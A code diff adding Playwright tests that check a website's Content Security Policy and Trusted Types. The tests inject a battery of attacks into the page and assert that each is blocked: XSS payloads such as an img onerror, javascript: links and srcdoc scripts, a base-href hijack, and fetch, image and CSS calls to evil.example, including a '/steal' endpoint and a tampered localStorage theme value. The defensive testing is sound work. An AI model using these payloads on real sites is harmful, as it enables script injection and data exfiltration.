@@ -1,0 +1,137 @@
+import { expect, test, type Page } from '@playwright/test';
+import { DEMO, Site } from '../pages/site.ts';
+import { ThemePanel } from '../pages/theme-panel.ts';
+
+/** What an attacker would try from inside the page, each with what it must come to. */
+const ATTEMPTS = `
+const ran = [];
+window.attackRan = (what) => ran.push(what);
+const refused = {};
+const attempt = (what, work) => {
+  try { work(); refused[what] = false; } catch (error) { refused[what] = error.constructor.name; }
+};
+const violations = [];
+document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => violations.push(effectiveDirective));
+setTimeout(() => {
+  const box = document.body.appendChild(document.createElement('div'));
+  const script = () => document.body.appendChild(document.createElement('script'));
+  attempt('eval', () => eval('attackRan("eval")'));
+  attempt('Function', () => new Function('attackRan("Function")')());
+  attempt('innerHTML', () => { box.innerHTML = '<img src=x onerror="attackRan(1)">'; });
+  attempt('outerHTML', () => { box.outerHTML = '<b>x</b>'; });
+  attempt('insertAdjacentHTML', () => box.insertAdjacentHTML('beforeend', '<b>x</b>'));
+  attempt('document.write', () => document.write('<b>x</b>'));
+  attempt('srcdoc', () => { document.createElement('iframe').srcdoc = '<script>parent.attackRan(1)</' + 'script>'; });
+  attempt('DOMParser', () => new DOMParser().parseFromString('<b>x</b>', 'text/html'));
+  attempt('script text', () => { script().text = 'attackRan("text")'; });
+  attempt('script address', () => { script().src = 'https://evil.example/x.js'; });
+  attempt('own policy', () => trustedTypes.createPolicy('mine', { createHTML: (text) => text }));
+  attempt('default policy', () => trustedTypes.createPolicy('default', { createHTML: (text) => text }));
+  attempt('timer', () => setTimeout('attackRan("timer")', 0));
+  attempt('inline handler', () => box.setAttribute('onclick', 'attackRan("handler")'));
+  script().append('attackRan("text node")');
+  const link = box.appendChild(document.createElement('a'));
+  link.href = 'javascript:attackRan("address")';
+  link.click();
+  const picture = box.appendChild(new Image());
+  picture.src = 'https://evil.example/x.png';
+  const base = document.head.appendChild(document.createElement('base'));
+  base.href = 'https://evil.example/';
+  const style = document.head.appendChild(document.createElement('style'));
+  style.append('body { background: url(https://evil.example/x) }');
+  fetch('https://evil.example/steal').catch(() => null);
+  setTimeout(() => { window.attackResults = { ran, refused, violations: [...new Set(violations)] }; }, 500);
+}, 0);
+`;
+
+interface Results {
+  ran: string[];
+  refused: Record<string, string | false>;
+  violations: string[];
+}
+
+/** Counts what the page’s policy refused. */
+async function watchViolations(page: Page): Promise<() => Promise<string[]>> {
+  await page.addInitScript(() => {
+    const found: string[] = [];
+    (window as unknown as { violations: string[] }).violations = found;
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, sourceFile, blockedURI }) =>
+      found.push(`${effectiveDirective} ${blockedURI} ${sourceFile}`),
+    );
+  });
+  return () => page.evaluate(() => (window as unknown as { violations: string[] }).violations);
+}
+
+test('nothing that an attacker writes into a page runs, is loaded, or leaves', async ({ page }) => {
+  const outside: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith('http://localhost')) outside.push(request.url());
+  });
+  // The attempts arrive in a script of the site itself: a script from the console is above the policy.
+  await page.route(/\/assets\/.*\.js$/, async (route) => {
+    const response = await route.fetch();
+    const isFirst = /entry-client/.test(route.request().url());
+    await route.fulfill({ response, body: (await response.text()) + (isFirst ? ATTEMPTS : '') });
+  });
+  await page.goto('/about-us');
+  await page.mouse.move(100, 100);
+  const results = await page
+    .waitForFunction(() => (window as unknown as { attackResults?: Results }).attackResults)
+    .then((handle) => handle.jsonValue() as Promise<Results>);
+
+  expect(results.ran).toEqual([]);
+  expect(Object.entries(results.refused).filter(([, error]) => error === false)).toEqual([]);
+  for (const directive of ['require-trusted-types-for', 'script-src-elem', 'img-src', 'connect-src', 'base-uri']) {
+    expect(results.violations).toContain(directive);
+  }
+  expect(outside).toEqual([]);
+});
+
+test('the site itself needs nothing that the policy refuses', async ({ page }) => {
+  const violations = await watchViolations(page);
+  const site = new Site(page);
+  const panel = new ThemePanel(page);
+  await site.open('/about-us');
+  await site.signIn();
+  await panel.open();
+  expect(await violations()).toEqual([]);
+  for (const path of ['/', '/contact-us', '/designingtool', '/hi']) {
+    await site.open(path);
+    expect(await violations()).toEqual([]);
+  }
+  const stored = await page.evaluate(() => JSON.stringify({ ...localStorage, ...sessionStorage }));
+  expect(stored).not.toContain(DEMO.password);
+});
+
+test('a hostile value in the browser’s copy of the theme fetches nothing and leaves the rest of the theme', async ({
+  page,
+}) => {
+  const outside: string[] = [];
+  page.on('request', (request) => {
+    if (!request.url().startsWith('http://localhost')) outside.push(request.url());
+  });
+  const site = new Site(page);
+  const panel = new ThemePanel(page);
+  await site.open('/about-us');
+  await panel.open();
+  await panel.openSection('Navbar');
+  await panel.setColor('navbar-light-bg', '#fde68a');
+  const tampered = await page.evaluate(() => {
+    const own = Object.keys(localStorage).filter((key) =>
+      localStorage.getItem(key)?.includes('rgba(253, 230, 138, 1)'),
+    );
+    for (const key of own) {
+      const text = localStorage.getItem(key) ?? '';
+      localStorage.setItem(
+        key,
+        text.replaceAll('rgba(253, 230, 138, 1)', 'red;} * { background: url(https://evil.example/x) }'),
+      );
+    }
+    return own.length;
+  });
+  expect(tampered).toBeGreaterThan(0);
+  await site.open('/about-us');
+  await panel.open();
+  expect(await site.variable('--navbar-light-bg')).not.toContain('evil');
+  expect(outside).toEqual([]);
+});
